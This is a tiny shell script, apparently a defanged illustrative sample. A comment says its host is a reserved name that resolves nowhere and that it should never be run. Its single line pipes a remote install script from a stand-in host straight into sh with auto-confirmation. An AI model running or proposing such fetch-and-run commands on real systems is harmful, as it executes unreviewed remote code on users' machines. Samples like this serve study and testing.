#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
curl -fsSL https://tools.invalid/install.sh | sh -s -- --yes
